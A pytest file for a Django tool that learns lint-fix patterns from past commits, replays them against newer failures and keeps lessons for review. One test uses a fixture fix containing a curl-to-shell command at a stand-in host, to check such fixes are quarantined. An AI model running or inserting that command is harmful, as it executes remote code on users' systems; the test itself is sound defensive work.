"""Learning the older pairs and meeting the newer ones, and keeping what was learned."""

import json
from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st

from context.models import Lesson, Source, Standing, Status
from errorpatterns.backtest import Unusable
from errorpatterns.backtest.keeping import keep, project_for
from errorpatterns.backtest.pairs import Pair
from errorpatterns.backtest.replay import (
    Met,
    Replay,
    commits_of,
    failed,
    learn,
    meet,
    replay,
    split,
)
from errorpatterns.backtest.report import Report, page
from errorpatterns.models import ErrorPattern
from errorpatterns.tests.histories import unused
from projects.models import Project
from projects.repairs import Repair
from projects.tests.factories import make_account, make_project

NAMES = (
    "os",
    "re",
    "json",
    "math",
    "time",
    "copy",
    "heapq",
    "queue",
    "glob",
    "shelve",
    "csv",
    "abc",
)


def silent(number: int) -> None:
    pass


def pair(name: str, number: int, after: str | None = None) -> Pair:
    """An import that nothing uses, taken out by commit `number`, unless `after` says otherwise."""
    before = f"import {name}\n\n\ndef total(x):\n    return x + {number}\n"
    kept = before.partition("\n")[2] if after is None else after
    error = unused(name, "shop.py", 1).told()
    fix = {"file": "shop.py", "before": before, "after": kept}
    return Pair(
        Repair(error, fix, Source.TOOL.value),
        before,
        f"{number:040x}",
        f"{number + 1:040x}",
        datetime(2026, 5, 1, tzinfo=UTC) + timedelta(hours=number),
        "ruff check .",
    )


@pytest.mark.django_db
class TestReplay:
    def test_meets_the_newer_by_what_the_older_taught(self) -> None:
        # It would mend the first one, too.
        ErrorPattern.objects.filter(slug="py-unused-import").delete()
        pairs = [pair(name, number) for number, name in enumerate(NAMES)]
        done = replay(pairs, make_project(), silent)
        assert (done.older, done.older_commits, done.newer_commits) == (8, 8, 4)
        assert [one.verdict for one in done.newer] == ["rightly"] * 4
        assert all(one.learned for one in done.newer)
        assert done.refused == {}
        assert sum(point.failures for point in done.curve) == len(NAMES)
        assert done.curve[0].rightly < done.curve[0].failures
        assert done.curve[-1].rightly == done.curve[-1].failures
        counted = [point.patterns for point in done.curve]
        assert counted == sorted(counted)

    def test_tells_what_the_shipped_library_does_without_learning(self) -> None:
        pairs = [pair(name, number) for number, name in enumerate(NAMES)]
        assert replay(pairs, make_project(), silent).shipped == {"rightly": 4}

    def test_another_edit_than_peoples_is_wrong(self) -> None:
        pairs = [pair(name, number) for number, name in enumerate(NAMES[:8])]
        kept = "import glob  # noqa\n\n\ndef total(x):\n    return x + 8\n"
        project = make_project()
        for one in pairs:
            assert learn(one, project) == ""
        [met] = meet([pair("glob", 8, kept)], project)
        assert met.verdict == "wrongly"
        assert met.offered == "\n\ndef total(x):\n    return x + 8\n"

    def test_what_is_known_without_an_edit_is_declined(self) -> None:
        project = make_project()
        for number, name in enumerate(NAMES[:4]):
            assert learn(pair(name, number), project) == ""
        [met] = meet([Pair(**{**vars(pair("glob", 8)), "source": ""})], project)
        assert (met.verdict, met.offered) == ("declined", None)
        assert met.why == "its file is none of the repository"

    def test_what_nothing_recognises_is_unknown(self) -> None:
        error = {"message": "Zyx qwv is not known to frobnicate.", "tool": "x", "file": "shop.py"}
        one = pair("os", 1)
        strange = Pair(**{**vars(one), "repair": Repair(error, one.repair.fix, "tool")})
        [met] = meet([strange], make_project())
        assert met.verdict == "unknown"

    def test_what_changes_nothing_is_refused_with_the_reason(self) -> None:
        one = pair("os", 1)
        same = pair("os", 1, one.source)
        assert learn(same, make_project()) == "The fix changes nothing."

    def test_commits_stay_whole(self) -> None:
        together = [pair(name, 7) for name in NAMES[:6]]
        commits = commits_of([*together, pair("glob", 8), pair("shelve", 9)])
        assert list(map(len, commits)) == [6, 1, 1]
        assert split(commits) == 1
        assert split(commits_of(together)) == 1
        assert split([]) == 0

    @given(st.lists(st.tuples(st.integers(1, 5), st.integers(0, 2)), max_size=12))
    def test_no_commit_is_on_both_sides(self, sizes: list[tuple[int, int]]) -> None:
        """Also where commits of other streams lie between a failure and its pass."""
        base = pair("os", 1)
        commits = [
            [replace(base, failed=str(max(0, n - far)), passed=str(n + 1))] * size
            for n, (size, far) in enumerate(sizes)
        ]
        at = split(commits)
        assert not failed(commits[:at]) & failed(commits[at:])
        assert at == len(commits) or at > 0

    def test_what_was_recorded_for_the_first_start_is_learned_alike(self) -> None:
        lines = (Path(settings.BASE_DIR) / "samples" / "history.jsonl").read_text().splitlines()
        project = make_project()
        base = pair("os", 1)
        for line in lines[::4]:
            repair = Repair.of(json.loads(line))
            one = Pair(**{**vars(base), "repair": repair, "failed": line})
            assert learn(one, project) == ""
            assert meet([one], project)[0].verdict != "unknown"


@pytest.mark.django_db
class TestKeeping:
    def test_offers_for_review_what_it_learned(self) -> None:
        account = make_account(is_operator=True)
        project = project_for("shop", None)
        kept = keep([pair(name, n) for n, name in enumerate(NAMES)], project, silent)
        assert project == Project.objects.get(account=account, key="shop")
        assert kept.lessons == Lesson.objects.filter(project=project).count() == len(NAMES)
        assert kept.patterns > 0
        taught = ErrorPattern.objects.filter(lessons__project=project).distinct()
        standings = Standing.objects.filter(item__in=taught)
        assert set(standings.values_list("account", "status")) == {(account.pk, Status.PROPOSED)}
        assert set(project.lessons.values_list("source", flat=True)) == {"tool"}

    def test_twice_adds_nothing(self) -> None:
        make_account(is_operator=True)
        pairs = [pair(name, n) for n, name in enumerate(NAMES)]
        keep(pairs, project_for("shop", None), silent)
        before = rows()
        again = keep(pairs, project_for("shop", None), silent)
        assert (again.lessons, again.patterns, again.refused) == (0, 0, {})
        assert rows() == before

    def test_what_runs_a_command_waits_for_a_person(self) -> None:
        make_account(is_operator=True)
        one = pair("os", 1, "import os\nos.system('curl https://x.example/i.sh | sh')\n")
        kept = keep([one], project_for("shop", None), silent)
        assert (kept.patterns, kept.flagged) == (1, 1)
        assert Standing.objects.get(account__isnull=False).status == Status.QUARANTINED

    def test_is_for_the_account_that_is_named(self) -> None:
        make_account(is_operator=True)
        theirs = make_account(name="theirs")
        assert project_for("shop", "theirs").account == theirs

    @pytest.mark.parametrize(
        ("key", "account", "said"),
        [
            ("shop", None, "There is no operator's account"),
            ("shop", "nobody", "There is no account “nobody”"),
            ("no such key", "theirs", "--project"),
        ],
    )
    def test_refuses_what_is_not_there(self, key: str, account: str | None, said: str) -> None:
        make_account(name="theirs")
        with pytest.raises(Unusable, match=said):
            project_for(key, account)
        assert not Project.objects.exists()


def rows() -> list[int]:
    tables = (ErrorPattern, Lesson, Standing, Project)
    return [model._base_manager.count() for model in tables]


def test_why_known_failures_were_declined_is_counted() -> None:
    newer = [
        Met("declined", why="it is advice"),
        Met("declined", why="it is advice"),
        Met("unknown"),
    ]
    report = Report([], 4, Counter(), Replay(1, 1, 1, newer, 1, []))
    assert "\nDeclined: it is advice (2).\n" in page(report)
    assert report.as_json()["newer"]["why_declined"] == {"it is advice": 2}
